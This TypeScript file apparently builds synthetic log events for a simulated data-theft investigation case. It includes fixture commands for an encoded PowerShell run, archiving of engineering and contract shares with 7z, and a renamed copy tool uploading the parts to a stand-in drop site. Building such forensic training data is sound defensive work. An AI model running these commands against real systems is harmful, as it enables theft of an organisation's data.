import { SECOND, utcMs } from '../caseClock';
import type { CaseEvents, NetEvent, ProcessEvent, UploadEvent } from '../caseEvents';
import { addressOf } from '../company/hosts';
import { seededRandom } from '../seededRandom';
import { connection, DROP_SITE, DROP_SITE_IP, execution, logon, STOLEN_ACCOUNT } from './actors';
import { encodedCommand, scripts } from './encodedCommand';

const HOST = 'FS-02';
const PARTS = 12;
const FIRST_PART_MS = utcMs('03-11 00:19:04');

export interface Exfiltration {
  readonly events: Partial<CaseEvents>;
  readonly uploads: readonly UploadEvent[];
  readonly encodedCommands: readonly ProcessEvent[];
}

function archiveParts(): readonly UploadEvent[] {
  const random = seededRandom('exfiltration');
  let at = FIRST_PART_MS;
  return Array.from({ length: PARTS }, (_, index) => {
    const atMs = at;
    at += random.integer(120, 215) * SECOND;
    const part = String(index + 1).padStart(3, '0');
    return {
      atMs,
      host: HOST,
      sourceIp: addressOf(HOST),
      email: '',
      method: 'PUT',
      urlHost: DROP_SITE,
      path: `/u/9f2c71/engineering.7z.${part}`,
      fileNames: [`engineering.7z.${part}`],
      sentBytes: index === PARTS - 1 ? 311_427_072 : 943_718_400,
    };
  });
}

/** The same transfers as the network log sees them. */
function transferConnections(uploads: readonly UploadEvent[]): readonly NetEvent[] {
  return uploads.map((upload) => ({
    atMs: upload.atMs - 640,
    host: HOST,
    user: STOLEN_ACCOUNT,
    sourceIp: upload.sourceIp,
    destIp: DROP_SITE_IP,
    destPort: 443,
    protocol: 'tcp',
  }));
}

/** Archive, rename the copy tool, send the parts out. */
export function exfiltration(): Exfiltration {
  const uploads = archiveParts();
  const listing = execution(
    '03-10 23:09:36.175',
    HOST,
    STOLEN_ACCOUNT,
    'cmd.exe',
    'powershell.exe',
    `-nop -ec ${encodedCommand(scripts.newestFiles)}`,
  );
  return {
    events: {
      upload: uploads,
      auth: [logon('03-10 23:05:48.302', HOST, STOLEN_ACCOUNT, 'BKP-01', 10)],
      net: [
        connection('03-10 23:05:45.930', 'BKP-01', STOLEN_ACCOUNT, HOST, 3389),
        ...transferConnections(uploads),
      ],
      process: [
        listing,
        execution(
          '03-10 23:20:11.846',
          HOST,
          STOLEN_ACCOUNT,
          'cmd.exe',
          '7z.exe',
          'a -v900m -mx1 "E:\\Archive\\engineering.7z" "E:\\Shares\\Engineering" "E:\\Shares\\Contracts, signed"',
        ),
        execution(
          '03-11 00:17:52.509',
          HOST,
          STOLEN_ACCOUNT,
          'cmd.exe',
          'svcsync.exe',
          'copy E:\\Archive drop:u/9f2c71 --include "engineering.7z.*" --transfers 1 --no-check-certificate',
        ),
      ],
    },
    uploads,
    encodedCommands: [listing],
  };
}
